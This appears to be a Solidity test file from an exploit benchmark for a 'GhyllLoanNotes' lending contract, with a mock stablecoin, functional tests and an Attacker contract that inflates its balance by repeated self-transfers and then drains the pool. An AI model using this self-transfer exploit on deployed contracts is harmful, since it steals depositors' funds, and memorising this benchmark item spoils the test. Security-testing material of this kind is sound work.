// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.6.12;

import "./GhyllLoanNotes.sol";

// assay-canary-874319ab-0608-4fdf-939b-f3336bd5e151

interface Vm {
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Stable {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    using U for uint256;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] = balanceOf[to].plus(amount);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] = balanceOf[msg.sender].minus(amount);
        balanceOf[to] = balanceOf[to].plus(amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] = allowance[from][msg.sender].minus(amount);
        balanceOf[from] = balanceOf[from].minus(amount);
        balanceOf[to] = balanceOf[to].plus(amount);
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant LENDER = address(0x1E4D);
    address internal constant DESK = address(0xDE5C);
    address internal constant OTHER = address(0x0714);
    uint256 internal constant POOL = 8_100_000 ether;

    Stable internal usd;
    GhyllLoanNotes internal notes;
    Attacker internal thief;

    function setUp() public {
        vm.warp(1600000000);
        usd = new Stable();
        notes = new GhyllLoanNotes(IStable(address(usd)), 0.1 ether);
        notes.setDesk(DESK, true);
        usd.mint(LENDER, POOL);
        vm.prank(LENDER);
        usd.approve(address(notes), POOL);
        vm.prank(LENDER);
        notes.put(POOL);
        thief = new Attacker(notes, usd);
        usd.mint(address(thief), 100_000 ether);
    }

    function test_Regular() public {
        require(notes.balanceOf(LENDER) == POOL && notes.price() == 1 ether, "first");
        (bool ok, ) = address(notes).call(abi.encodeWithSelector(notes.lend.selector, 1 ether));
        require(!ok, "desk");
        vm.prank(DESK);
        (ok, ) = address(notes).call(abi.encodeWithSelector(notes.lend.selector, POOL));
        require(!ok, "too much");
        vm.prank(DESK);
        notes.lend(POOL / 2);
        vm.warp(1600000000 + 365 days);
        require(notes.price() == 1.05 ether, "interest");
        require(notes.earnedBy(LENDER) == POOL / 20, "earned");

        vm.prank(LENDER);
        notes.transfer(OTHER, 1000 ether);
        require(notes.balanceOf(OTHER) == 1000 ether && notes.balanceOf(LENDER) == POOL - 1000 ether, "passed");
        require(notes.basisOf(OTHER) == 1.05 ether && notes.earnedBy(OTHER) == 0, "basis");
        vm.prank(OTHER);
        notes.approve(address(this), 400 ether);
        notes.transferFrom(OTHER, LENDER, 400 ether);
        (ok, ) = address(notes).call(abi.encodeWithSelector(notes.transferFrom.selector, OTHER, LENDER, 1));
        require(!ok, "allowance");
        vm.prank(OTHER);
        (ok, ) = address(notes).call(abi.encodeWithSelector(notes.transfer.selector, LENDER, 601 ether));
        require(!ok, "too many");
        vm.prank(OTHER);
        notes.take(600 ether);
        require(usd.balanceOf(OTHER) == 630 ether && notes.totalSupply() == POOL - 600 ether, "taken");

        usd.mint(DESK, POOL);
        vm.prank(DESK);
        usd.approve(address(notes), POOL);
        uint256 owed = notes.owed();
        vm.prank(DESK);
        notes.bringBack(owed);
        require(notes.owed() == 0 && notes.cash() == usd.balanceOf(address(notes)), "brought back");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The steward's desks, dollars that make a note, and receivers that are some.
    function test_RefusesNotes() public {
        refuses(OTHER, "Ghyll: steward");
        notes.setDesk(OTHER, true);
        vm.expectRevert("Ghyll: too little");
        notes.put(0);
        refuses(LENDER, "Register: receiver");
        notes.transfer(address(0), 1);
        refuses(LENDER, "Register: receiver");
        notes.transfer(address(notes), 1);
        vm.expectRevert("U: times");
        notes.put(uint256(-1));
    }

    /// Dollars that say no are believed.
    function test_RefusesFailedTransfers() public {
        usd.sleep(true);
        vm.expectRevert("Ghyll: dollars");
        notes.put(1);
        refuses(LENDER, "Ghyll: dollars");
        notes.take(1);
        refuses(DESK, "Ghyll: dollars");
        notes.lend(1);
        usd.sleep(false);
        vm.prank(DESK);
        notes.lend(1);
        usd.sleep(true);
        refuses(DESK, "Ghyll: dollars");
        notes.bringBack(1);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + POOL, "nothing gained");
    }

    function target() public view returns (address) {
        return address(notes);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Sends all its notes to itself until they would be more than there are.
contract Attacker {
    GhyllLoanNotes internal notes;
    Stable internal usd;

    constructor(GhyllLoanNotes notes_, Stable usd_) public {
        notes = notes_;
        usd = usd_;
    }

    function run() external {
        uint256 own = usd.balanceOf(address(this));
        usd.approve(address(notes), own);
        notes.put(own);
        for (uint256 i = 0; i < 8; i++) notes.transfer(address(this), notes.balanceOf(address(this)));
        notes.take(notes.totalSupply());
    }
}
